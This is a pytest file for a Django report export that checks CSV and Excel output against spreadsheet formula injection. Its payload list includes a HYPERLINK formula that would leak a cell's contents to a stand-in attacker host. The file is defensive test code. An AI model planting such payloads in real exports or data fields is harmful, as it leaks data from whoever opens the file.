"""Threat: an MO whose ``to`` or connection is ``=1+1`` (or a HYPERLINK leaking the sheet) becomes a live
formula in the MO reconciliation report's CSV or Excel file (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from motcua.messaging.models import IncomingMessage
from tests.conftest import local

PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def report(people):
    for i, payload in enumerate(PAYLOADS):
        IncomingMessage.objects.create(connection=f"c{i}", remote_id=f"m{i}", sender="84912345678",
                                       recipient=payload[:16], text="MCKH", outcome="answered",
                                       received_at=local(2026, 11, 5, 9, 0), price=1000)
    IncomingMessage.objects.create(connection="=2+2", remote_id="mc", sender="84912345678", recipient="8083",
                                   text="MCKH", outcome="answered", received_at=local(2026, 11, 5, 9, 0), price=1000)
    c = Client()
    c.force_login(people["province"])
    return c


def test_xlsx_cells_are_strings_never_formulas(report):
    response = report.get("/tra-cuu/bao-cao/mo", {"month": "2026-11", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert "'=1+1" in texts and "'=2+2" in texts
    assert any(isinstance(c.value, int) and c.value == 1000 for c in cells)  # amounts stay numbers


def test_csv_cells_never_start_a_formula(report):
    response = report.get("/tra-cuu/bao-cao/mo", {"month": "2026-11", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any("'=1+1" in row for row in rows)
